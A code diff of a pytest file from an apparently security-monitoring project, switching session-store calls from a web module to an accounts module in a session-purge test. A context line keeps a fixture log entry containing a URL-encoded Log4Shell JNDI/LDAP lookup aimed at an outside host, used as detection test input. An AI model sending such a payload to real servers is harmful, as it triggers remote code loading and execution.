@@ -9,10 +9,10 @@ import pytest
 
 from collectors.parsers import ParseContext, parse
 from soc import search
+from soc.accounts import store as accounts_store
 from soc.config import Settings
 from soc.scheduler import ServiceScheduler
 from soc.web import jobs as web_jobs
-from soc.web import store as web_store
 
 LINE = (b'198.51.100.9 - - [27/Nov/2026:00:00:01 +0000] "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9'
         b'%2Fa%7D HTTP/1.1" 200 153 "-" "curl/7.88.1"')
@@ -62,14 +62,14 @@ def test_expired_console_sessions_are_purged(isolated: Settings) -> None:
     client, names = search.client(isolated), search.names(isolated)
     now = datetime.now(UTC)
     for secret, expires in (("live-secret", now + timedelta(hours=1)), ("dead-secret", now - timedelta(minutes=1))):
-        web_store.create_session(client, names, secret, {"name": "ana", "user": "ana", "csrf": "x", "lang": "vi",
+        accounts_store.create_session(client, names, secret, {"name": "ana", "user": "ana", "csrf": "x", "lang": "vi",
                                                          "created": now.isoformat(), "expires": expires.isoformat()})
     client.index(index=names.users, id="user-ana", refresh=True,
                  body={"kind": "user", "name": "ana", "role": "analyst", "agencies": ["so-tttt"]})
     assert web_jobs.purge_sessions(isolated, now) == 1
-    assert web_store.get_session(client, names, "live-secret") is not None
-    assert web_store.get_session(client, names, "dead-secret") is None
-    assert web_store.get_doc(client, names, "user-ana") is not None  # only sessions are touched
+    assert accounts_store.get_session(client, names, "live-secret") is not None
+    assert accounts_store.get_session(client, names, "dead-secret") is None
+    assert accounts_store.get_doc(client, names, "user-ana") is not None  # only sessions are touched
     assert web_jobs.purge_sessions(isolated, now) == 0
 
 
